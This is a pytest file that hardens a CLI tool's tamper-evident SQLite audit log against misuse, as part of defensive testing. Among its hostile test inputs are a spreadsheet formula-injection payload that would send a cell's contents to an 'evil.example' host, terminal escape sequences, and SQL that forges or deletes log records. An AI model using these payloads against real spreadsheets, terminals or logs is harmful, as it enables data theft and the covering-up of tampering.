"""The audit log cannot be fooled or misused: each class of misuse from the hardening issue,
fed several values, through the real CLI, a real SQLite file and (where the bug is about the
process) a real child process."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from engine.audit import open_log
from engine.audit.export import mask_record, personal_paths
from engine.audit.signing import keygen
from engine.audit.store import TRIGGERS
from engine.cli import cli
from tests.audit_rows import make_plain
from tests.audit_standin import make_assessment

ROOT = Path(__file__).resolve().parents[1]


def run(*args: str) -> object:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def fill(n: int = 3, **kwargs: object) -> list[str]:
    log = open_log()
    ids = [log.append(make_assessment(i, **kwargs)) for i in range(n)]  # type: ignore[arg-type]
    log.close()
    return ids


def one_line(stderr: str) -> str:
    assert stderr.count("\n") == 1, stderr
    assert "Traceback" not in stderr
    return stderr


def edit(path: Path, sql: str, params: tuple[object, ...] = ()) -> None:
    """Change the file as someone with write access would (triggers dropped first)."""
    conn = sqlite3.connect(path, isolation_level=None)
    for name in TRIGGERS:
        conn.execute(f"DROP TRIGGER IF EXISTS {name}")
    conn.execute(sql, params)
    conn.close()


# -- 1. reading never creates a log ---------------------------------------------------------

READERS = [
    (("audit", "verify"), 3),
    (("audit", "verify", "--no-saved", "--require-signatures"), 3),
    (("audit", "checkpoint"), 3),
    (("audit", "list"), 0),
    (("audit", "list", "--format", "json"), 0),
    (("audit", "show", "abcd1234"), 2),
    (("audit", "report", "abcd1234"), 2),
    (("audit", "export"), 2),
    (("audit", "export", "--format", "csv"), 2),
    (("audit", "replay", "--all"), 2),
    (("audit", "replay", "abcd1234"), 2),
]


@pytest.mark.parametrize("home_exists", [False, True])
@pytest.mark.parametrize("args,code", READERS)
def test_reading_a_missing_log_creates_nothing(home: Path, home_exists: bool,
                                               args: tuple[str, ...], code: int) -> None:
    if home_exists:
        home.mkdir()
    result = run(*args)
    assert result.exit_code == code, result.output
    assert not (home / "audit.sqlite").exists()
    assert not (home / "audit.head.json").exists()
    if code:
        assert str(home / "audit.sqlite") in one_line(result.stderr)
    if args[:2] == ("audit", "list"):
        assert "no audit log" in result.stderr


@pytest.mark.parametrize("content", [b"", b"not a database at all" * 50])
def test_verify_of_a_wiped_log_fails_and_leaves_it_as_it_was(home: Path, content: bytes) -> None:
    home.mkdir()
    (home / "audit.sqlite").write_bytes(content)
    result = run("audit", "verify")
    assert result.exit_code == 3
    assert "audit.sqlite" in one_line(result.stderr)
    assert (home / "audit.sqlite").read_bytes() == content


def test_verify_after_the_log_was_deleted_exits_3(home: Path) -> None:
    fill(2)
    (home / "audit.sqlite").unlink()
    result = run("audit", "verify")
    assert result.exit_code == 3 and "no audit log" in one_line(result.stderr)
    assert not (home / "audit.sqlite").exists()


def test_a_home_with_uri_characters_is_still_found(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "odd ?#%20 home"
    monkeypatch.setenv("MLADVISOR_HOME", str(home))
    monkeypatch.delenv("MLADVISOR_AUDIT_KEY", raising=False)
    fill(2)
    assert run("audit", "verify").stdout.startswith("ok: 2 records")
    assert len(run("audit", "list").stdout.splitlines()) == 2


# -- 2. --pubkey means exactly those keys ---------------------------------------------------

def test_pubkey_trusts_only_the_keys_given(home: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    _, _, genuine_pub = keygen(home)
    fill(2)
    kept = tmp_path / "genuine.pub"
    shutil.copy(genuine_pub, kept)
    assert run("audit", "verify", "--pubkey", str(kept), "--require-signatures").exit_code == 0
    # someone who can write MLADVISOR_HOME rebuilds the log signed with a key of their own and
    # drops its public key into keys/
    _, attacker_private, attacker_pub = keygen(tmp_path / "attacker")
    shutil.copy(attacker_pub, home / "keys" / attacker_pub.name)
    for name in ("audit.sqlite", "audit.sqlite-wal", "audit.sqlite-shm", "audit.head.json"):
        (home / name).unlink(missing_ok=True)
    monkeypatch.setenv("MLADVISOR_AUDIT_KEY", str(attacker_private))
    fill(2)
    for extra in ([], ["--no-saved"]):
        result = run("audit", "verify", "--pubkey", str(kept), "--require-signatures", *extra)
        assert result.exit_code == 3, result.output
        assert "not a trusted key" in one_line(result.stderr)
    other = tmp_path / "other.pub"
    shutil.copy(keygen(tmp_path / "third")[2], other)
    result = run("audit", "verify", "--pubkey", str(other), "--pubkey", str(kept))
    assert result.exit_code == 3  # several keys: still only those


# -- 3. malformed checkpoints and the head of a signed log ----------------------------------

MALFORMED = [
    b"",
    b"\xff\xfe not utf-8",
    b"[1, 2]",
    b'{"schema": "something-else"}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": -1, "head_hash": "' + b"0" * 64
    + b'"}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": 1, "head_hash": "zz"}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": 1, "head_hash": "' + b"g" * 64
    + b'"}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": 1, "head_hash": "' + b"0" * 64
    + b'", "signature": 12, "key_id": 3}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": 1, "head_hash": "' + b"0" * 64
    + b'", "signature": "AAAA"}',
    b'{"schema": "mladvisor.audit-checkpoint/1", "count": true, "head_hash": "' + b"0" * 64
    + b'"}',
]


@pytest.mark.parametrize("where", ["option", "saved", "head"])
@pytest.mark.parametrize("content", MALFORMED)
def test_a_malformed_checkpoint_fails_verification(home: Path, tmp_path: Path, where: str,
                                                   content: bytes) -> None:
    fill(1)
    if where == "option":
        path = tmp_path / "bad.json"
        args = ["--checkpoint", str(path)]
    elif where == "saved":
        (home / "checkpoints").mkdir()
        path = home / "checkpoints" / "checkpoint-000000001-x.json"
        args = []
    else:
        path = home / "audit.head.json"
        args = []
    path.write_bytes(content)
    result = run("audit", "verify", *args)
    assert result.exit_code == 3, result.output
    assert path.name in one_line(result.stderr)


def _signed_log(home: Path) -> None:
    keygen(home)
    fill(3)


def test_a_signed_log_without_its_head_file_fails(home: Path) -> None:
    _signed_log(home)
    (home / "audit.head.json").unlink()
    result = run("audit", "verify")
    assert result.exit_code == 3 and "audit.head.json" in one_line(result.stderr)
    assert "missing" in result.stderr
    assert run("audit", "verify", "--no-saved").exit_code == 0  # asked not to look


@pytest.mark.parametrize("cut", [0, 1, 2])
def test_a_signed_log_with_an_unsigned_head_fails(home: Path, cut: int) -> None:
    """Unsigned heads: the true one stripped of its signature, or one written for a log with
    its tail cut off (the sequence check is defeated too, as a careful editor would)."""
    _signed_log(home)
    path = home / "audit.sqlite"
    if cut:
        edit(path, "DELETE FROM records WHERE seq > ?", (3 - cut,))
        edit(path, "UPDATE sqlite_sequence SET seq=? WHERE name='records'", (3 - cut,))
    conn = sqlite3.connect(path)
    count, head_hash = conn.execute(
        "SELECT seq, entry_hash FROM records ORDER BY seq DESC LIMIT 1").fetchone()
    conn.close()
    head = json.loads((home / "audit.head.json").read_text())
    head.update(count=count, head_hash=head_hash)
    head.pop("signature")
    head.pop("key_id")
    (home / "audit.head.json").write_text(json.dumps(head))
    result = run("audit", "verify")
    assert result.exit_code == 3, result.output
    assert "audit.head.json" in one_line(result.stderr) and "not signed" in result.stderr


def test_an_unsigned_log_needs_no_signed_head(home: Path) -> None:
    fill(2)
    (home / "audit.head.json").unlink()
    assert run("audit", "verify").exit_code == 0


# -- 4. replaying a tampered record or blob ------------------------------------------------

def _real_record(home: Path) -> str:
    from engine.api import assess
    from tests.test_audit_replay import ANSWERS

    with open_log() as log:
        return log.append(assess({"answers": ANSWERS, "benchmarks": None, "drift": None}))


TAMPERS = [
    ("UPDATE blobs SET content='x' WHERE sha256=(SELECT min(sha256) FROM blobs)", ()),
    ("UPDATE blobs SET content=x'00ff' WHERE sha256=(SELECT min(sha256) FROM blobs)", ()),
    ("UPDATE blobs SET content=42 WHERE sha256=(SELECT min(sha256) FROM blobs)", ()),
    ("UPDATE rulebases SET manifest='not json'", ()),
    ("UPDATE rulebases SET manifest=7", ()),
    ("DELETE FROM blobs WHERE sha256=(SELECT min(sha256) FROM blobs)", ()),
    ("UPDATE records SET body=json_set(body, '$.decision', 'gone')", ()),
    ("UPDATE records SET body=json_set(body, '$.input', json('[1, 2]'))", ()),
    ("UPDATE records SET body=json_set(body, '$.rulebase', 'x')", ()),
    ("UPDATE records SET body=json_set(body, '$.input.answers', json('{\"x\": [1]}'))", ()),
]


@pytest.mark.parametrize("sql,params", TAMPERS)
def test_replaying_a_tampered_record_is_one_line_naming_it(home: Path, sql: str,
                                                           params: tuple[object, ...]) -> None:
    from engine.audit import replay as replay_module

    record_id = _real_record(home)
    assert run("audit", "replay", record_id, "--recorded-only").exit_code == 0
    replay_module._LOADED.clear()  # a new process would not have it cached
    if "records" in sql:
        make_plain(home / "audit.sqlite")  # what json_set can edit: the canonical JSON
    edit(home / "audit.sqlite", sql, params)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for target in ([record_id], ["--all"]):
        proc = subprocess.run([sys.executable, "-m", "engine", "audit", "replay", *target],
                              capture_output=True, text=True, env=env, timeout=300)
        assert proc.returncode == 3, proc.stderr
        assert record_id in one_line(proc.stderr)


# -- 5. no terminal escape from the log reaches the terminal --------------------------------

HOSTILE = ["\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "bell\x07", "\x9b31mcsi", "back\x08\x08",
           "\u202eevil", "cr\rover", "nul\x00"]
RAW = ["\x1b", "\x07", "\x9b", "\x08", "\u202e", "\r", "\x00"]


def _assert_no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, (char, text[:200])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_list_show_and_replay_escape_control_characters(home: Path, hostile: str) -> None:
    log = open_log()
    assessment = make_assessment(1, respondent=f"Dana {hostile}")
    assessment.decision["project"]["name"] = f"Project {hostile}"
    assessment.decision["findings"][0]["rule"] = f"data.{hostile}"
    record_id = log.append(assessment)
    log.close()
    for args in (("list",), ("list", "--format", "json"), ("show", record_id),
                 ("show", record_id, "--format", "text"), ("replay", record_id),
                 ("show", f"{record_id[:8]}{hostile}")):
        result = run("audit", *args)
        _assert_no_raw_controls(result.stdout)
        _assert_no_raw_controls(result.stderr)
    shown = json.loads(run("audit", "show", record_id).stdout)
    assert shown["respondent"] == f"Dana {hostile}"  # JSON escapes: the same value comes back
    assert "\\x1b" in run("audit", "list").stdout or "\x1b" not in hostile


# -- 6. CSV cells are never formulas; masking finds personal values inside text -------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas(home: Path, tmp_path: Path) -> None:
    log = open_log()
    for index, text in enumerate(FORMULAS):
        assessment = make_assessment(index, respondent=text)
        assessment.decision["project"]["name"] = text
        log.append(assessment)
    log.close()
    out = tmp_path / "log.csv"
    assert run("audit", "export", "--format", "csv", "--out", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, FORMULAS, strict=True):
        assert row["project"] == "'" + text and row["respondent"] == "'" + text
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


NAME = "Dana Lee, Support Ops"


def _personal_record() -> object:
    assessment = make_assessment(1, respondent=NAME)
    decision = assessment.decision
    decision["project"]["name"] = "Dana Lee's routing pilot"
    decision["findings"][0]["rationale"] = f"Ask {NAME} about the labels; dana lee agrees."
    decision["trace"][0]["matched"]["note"] = "owner: Dana Lee"
    decision["input"]["answers"]["business"]["problem_statement"] = "Support Ops backlog"
    decision["input"]["answers"]["business"]["kpi"] = "fleet uptime, DANA's queue"
    return assessment


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_mask_hides_personal_values_inside_other_text(home: Path, fmt: str) -> None:
    log = open_log()
    log.append(_personal_record())  # type: ignore[arg-type]
    log.close()
    text = run("audit", "export", "--format", fmt, "--mask").stdout
    for part in ("Dana Lee", "Support Ops", "dana lee", "Dana", "Lee"):
        assert part not in text  # the value, its words and any case of them
    assert "[masked]'s routing pilot" in text
    assert "fleet uptime" in text and "DANA" not in text  # words match as words


def test_mask_follows_the_questionnaire_marks(tmp_path: Path) -> None:
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    (knowledge / "questionnaire.yaml").write_text(
        "sections:\n  - questions:\n      - {path: business.kpi, personal: true}\n"
        "      - {path: monitoring.sensitive_attributes, personal: true}\n")
    paths = personal_paths(knowledge)
    record = {"record_id": "r", "respondent": "Someone Else",
              "input": {"answers": {"business": {"kpi": "churn of Acme Corp",
                                                 "problem_statement": "reduce churn of Acme"
                                                 " Corp customers"},
                                    "monitoring": {"sensitive_attributes": ["ethnicity"]}}},
              "decision": {"findings": [{"rationale": "ethnicity drift; churn of Acme Corp"}]}}
    masked = json.dumps(mask_record(record, paths))
    assert "Acme" not in masked and "ethnicity" not in masked and "Someone Else" not in masked
    assert masked.count("[masked]") >= 5


# -- 7. export streams -----------------------------------------------------------------------

_PROBE = """
import atexit, os, sys
def _peak():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            open(os.environ["PEAK_FILE"], "w").write(line.split()[1])
atexit.register(_peak)
sys.argv = ["mladvisor"] + sys.argv[1:]
from engine.cli import main
main()
"""


def _export_peak_kb(home: Path, tmp_path: Path, args: list[str], stdout: Path) -> int:
    peak = tmp_path / f"peak-{len(list(tmp_path.glob('peak-*')))}"
    env = {**os.environ, "MLADVISOR_HOME": str(home), "PEAK_FILE": str(peak),
           "PYTHONPATH": str(ROOT)}
    with stdout.open("wb") as handle:
        proc = subprocess.run([sys.executable, "-c", _PROBE, "audit", "export", *args],
                              stdout=handle, stderr=subprocess.PIPE, env=env, timeout=600)
    assert proc.returncode == 0, proc.stderr
    return int(peak.read_text())


@pytest.fixture(scope="module")
def big_log(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A small log and a big one (1,500 records of about 25 KB: about 40 MB exported)."""
    root = tmp_path_factory.mktemp("big")
    homes = (root / "small", root / "big")
    for home, count in zip(homes, (20, 1500), strict=True):
        with open_log(home) as log:
            for n in range(count):
                log.append(make_assessment(n, findings=40))
    return homes


@pytest.mark.parametrize("fmt,to_file", [("jsonl", True), ("csv", False)])
@pytest.mark.slow
def test_export_memory_does_not_grow_with_the_log(big_log: tuple[Path, Path], tmp_path: Path,
                                                   fmt: str, to_file: bool) -> None:
    """The peak of a child exporting 3,000 records stays within a fraction of the export's
    size above the peak of exporting 20: holding the export (as before) costs more than it."""
    peaks, sizes = [], []
    for home in big_log:
        target = tmp_path / f"{home.name}.{fmt}"
        args = ["--format", fmt] + (["--out", str(target)] if to_file else [])
        sink = tmp_path / f"{home.name}.stdout"
        peaks.append(_export_peak_kb(home, tmp_path, args, sink))
        sizes.append((target if to_file else sink).stat().st_size)
    growth_kb = peaks[1] - peaks[0]
    assert sizes[1] > 30_000_000
    assert growth_kb * 1024 < sizes[1] / 2, (peaks, sizes)
    assert peaks[1] < 300_000  # and generously: under 300 MB


# -- 8. a second keygen says a key exists, where, and how to replace it ---------------------

def test_second_keygen_says_plainly_a_key_exists(home: Path) -> None:
    assert run("audit", "keygen").exit_code == 0
    pem = (home / "keys" / "audit-ed25519.pem").read_bytes()
    result = run("audit", "keygen")
    assert result.exit_code == 2
    message = one_line(result.stderr)
    assert str(home / "keys" / "audit-ed25519.pem") in message
    assert "already exists" in message and "--force" in message
    assert "expected" not in message and "got" not in message
    assert (home / "keys" / "audit-ed25519.pem").read_bytes() == pem
    assert run("audit", "keygen", "--force").exit_code == 0


# -- 9. an ambiguous id prefix is named as such, with its matches ---------------------------

def _records_with_ids(ids: list[str]) -> None:
    log = open_log()
    for n, record_id in enumerate(ids):
        assessment = make_assessment(n)
        assessment.decision["assessment_id"] = record_id
        log.append(assessment)
    log.close()


@pytest.mark.parametrize("command", [("audit", "show"), ("audit", "replay"),
                                     ("audit", "report"), ("report",)])
def test_an_ambiguous_prefix_lists_its_matches(home: Path, command: tuple[str, ...]) -> None:
    ids = [f"abcd{n:04d}-0000-4000-8000-000000000000" for n in range(3)] + ["abce0000-x"]
    _records_with_ids(ids)
    result = run(*command, "abcd")
    assert result.exit_code == 2
    message = one_line(result.stderr)
    assert "ambiguous" in message and all(i in message for i in ids[:3])
    assert ids[3] not in message
    assert run(*command[:1], "show", "ABCD").exit_code == 2 if command == ("report",) else True


def test_an_ambiguous_prefix_lists_at_most_ten(home: Path) -> None:
    _records_with_ids([f"fade{n:04d}-{n}" for n in range(13)])
    message = one_line(run("audit", "show", "fade").stderr)
    assert "matches 13 records" in message and "and 3 more" in message
    assert "fade0009-9" in message and "fade0010-10" not in message
    assert run("audit", "show", "FADE0001").exit_code == 2  # prefixes are case-sensitive
    assert json.loads(run("audit", "show", "fade0001").stdout)["record_id"] == "fade0001-1"


# -- 10. a home that cannot hold the log is one line, exit 2 --------------------------------

def _bad_home(tmp_path: Path, kind: str) -> Path:
    blocker = tmp_path / "blocker"
    blocker.write_text("a file, not a folder\n")
    if kind == "home is a file":
        return blocker
    if kind == "home under a file":
        return blocker / "deeper" / "home"
    home = tmp_path / "home"
    (home / "audit.sqlite").mkdir(parents=True)  # a folder where the log file should be
    return home


BAD_HOMES = ["home is a file", "home under a file", "log is a folder"]
OPENERS = [("audit", "verify"), ("audit", "list"), ("audit", "show", "abcd1234"),
           ("audit", "export"), ("audit", "replay", "--all"), ("audit", "checkpoint"),
           ("audit", "keygen"), ("audit", "report", "abcd1234")]


@pytest.mark.parametrize("kind", BAD_HOMES)
@pytest.mark.parametrize("args", OPENERS)
def test_a_bad_home_is_one_line_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                       kind: str, args: tuple[str, ...]) -> None:
    home = _bad_home(tmp_path, kind)
    monkeypatch.setenv("MLADVISOR_HOME", str(home))
    result = run(*args)
    assert result.exit_code == 2, result.output
    assert str(home) in one_line(result.stderr)


@pytest.mark.parametrize("kind", BAD_HOMES)
def test_assess_with_a_bad_home_is_one_line_and_writes_nothing(tmp_path: Path,
                                                               kind: str) -> None:
    home = _bad_home(tmp_path, kind)
    out = tmp_path / "report.json"
    env = {**os.environ, "MLADVISOR_HOME": str(home), "PYTHONPATH": str(ROOT)}
    env.pop("MLADVISOR_AUDIT_KEY", None)
    proc = subprocess.run([sys.executable, "-m", "engine", "assess",
                           str(ROOT / "examples" / "support-ticket-routing.yaml"),
                           "--format", "json", "--out", str(out)],
                          capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert str(home) in one_line(proc.stderr)
    assert not out.exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "no newline", "nested"])
def test_verify_export_refuses_what_is_not_an_export_at_once(tmp_path: Path, kind: str) -> None:
    """A FIFO would hang, /dev/zero (no newline, ever) would fill memory, a deeply nested line
    would end in a RecursionError: each is one line, exit 2, in a child that must finish."""
    if kind == "fifo":
        path = tmp_path / "export.fifo"
        os.mkfifo(path)
    elif kind == "device":
        path = Path("/dev/zero")
    elif kind == "no newline":
        path = tmp_path / "export.jsonl"
        path.write_bytes(b"x" * (9 << 20))  # past the per-line limit
    else:
        path = tmp_path / "export.jsonl"
        path.write_text("[" * 5000 + "]" * 5000 + "\n")
    result = subprocess.run([sys.executable, "-m", "engine", "audit", "verify", "--export",
                             str(path)], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 2, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert str(path) in result.stderr
